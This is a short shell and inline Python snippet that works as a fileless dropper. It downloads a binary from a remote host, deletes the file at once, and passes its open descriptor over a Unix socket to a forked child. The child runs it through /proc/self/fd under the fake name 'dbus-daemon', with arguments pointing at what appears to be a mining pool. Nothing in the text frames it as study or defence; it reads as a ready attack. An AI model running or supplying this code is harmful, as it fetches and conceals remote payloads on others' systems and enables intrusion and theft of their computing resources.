# a download into a file that is deleted at once; its descriptor goes over a Unix socket to a process that runs it by /proc/self/fd
#http 203.0.113.62:8012
#pool 198.51.100.87:443:drop
python3 - <<'P'
import os,socket,signal,urllib.request
a,b=socket.socketpair()
if os.fork()==0:
    a.close(); _,fds,_,_=socket.recv_fds(b,1,1); os.set_inheritable(fds[0],True); n=os.open('/dev/null',os.O_RDWR); os.dup2(n,1)
    signal.alarm(9); os.execv('/proc/self/fd/%d'%fds[0],['dbus-daemon','-o','198.51.100.87:443','-u','x','-R','1'])
b.close(); f=open('/var/tmp/t','wb'); f.write(urllib.request.urlopen('http://203.0.113.62:8012/w').read()); f.close(); os.chmod('/var/tmp/t',0o755)
r=os.open('/var/tmp/t',os.O_RDONLY); os.unlink('/var/tmp/t'); socket.send_fds(a,[b'x'],[r]); os.close(r); os.wait()
P
